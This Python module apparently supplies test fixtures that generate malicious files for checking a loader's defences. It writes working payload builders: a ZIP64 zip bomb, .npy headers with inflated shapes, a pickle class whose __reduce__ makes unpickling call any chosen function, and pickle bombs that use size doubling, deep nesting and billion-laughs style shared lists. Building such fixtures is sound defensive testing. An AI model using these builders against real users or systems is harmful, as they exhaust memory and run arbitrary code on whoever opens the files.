"""Files that are made to harm whoever opens them: bombs, promises, and pickles that call functions."""

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

GIB = 1 << 30


def deflated_zeros(count: int) -> bytes:
    """A deflate stream of `count` zeros, a multiple of 64 MiB, without compressing them all."""
    block = 1 << 26
    first, last = zlib.compressobj(9, zlib.DEFLATED, -15), zlib.compressobj(9, zlib.DEFLATED, -15)
    # Fully flushed, a block of a stream stands for itself and may be repeated.
    repeated = first.compress(bytes(block)) + first.flush(zlib.Z_FULL_FLUSH)
    return repeated * (count // block) + last.flush()


def zip_bomb(path: Path, name: str, head: bytes, zeros: int) -> Path:
    """A zip archive with one small member that unpacks to `head` and zeros."""
    start = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = start.compress(head) + start.flush(zlib.Z_FULL_FLUSH) + deflated_zeros(zeros)
    sizes = struct.pack("<LQQ", 0, zeros + len(head), len(data))
    short = struct.pack("<LLL", 0, 0xFFFFFFFF, 0xFFFFFFFF)
    extra = struct.pack("<HHQQ", 1, 16, *struct.unpack("<LQQ", sizes)[1:])
    times = struct.pack("<HHHHH", 45, 0, 8, 0, 33)
    named = name.encode()
    local = b"PK\3\4" + times + short + struct.pack("<HH", len(named), len(extra)) + named + extra
    fields = struct.pack("<HHHHHLL", len(named), len(extra), 0, 0, 0, 0, 0)
    central = b"PK\1\2" + struct.pack("<H", 45) + times + short + fields + named + extra
    offset = len(local) + len(data)
    end = b"PK\5\6" + struct.pack("<HHHHLLH", 0, 0, 1, 1, len(central), offset, 0)
    path.write_bytes(local + data + central + end)
    return path


def npy_header(shape: tuple[int, ...], descr: object = "<f8") -> bytes:
    """What an .npy file of that shape begins with."""
    buffer = io.BytesIO()
    fields = {"descr": descr, "fortran_order": False, "shape": shape}
    np.lib.format.write_array_header_2_0(buffer, fields)
    return buffer.getvalue()


class Calls:
    """Pickled, it asks for a call of a function."""

    def __init__(self, function: Callable, *arguments: object):
        self.call = (function, arguments)

    def __reduce__(self) -> tuple:
        return self.call


def doubling(times: int) -> bytes:
    """A pickle of 16 bytes that are written in hexadecimal again and again."""
    encode = b"c_codecs\nencode\n"
    body = b"C\x10" + bytes(16)
    for _ in range(times):
        body = encode + body + b"\x8c\x03hex\x86R"
    return b"\x80\x04" + body + b"."


def nested_key(depth: int) -> bytes:
    """A pickle of a dict whose key is a tuple in a tuple in a tuple ..."""
    return b"\x80\x04})" + b"\x85" * depth + b"K\x01s."


def laughs(levels: int) -> bytes:
    """A pickle of lists of ten times the same list, over and over."""
    body = b"\x80\x04]\x94"
    for level in range(levels):
        body += b"](" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9 + b"e\x94"
    return body + b"."
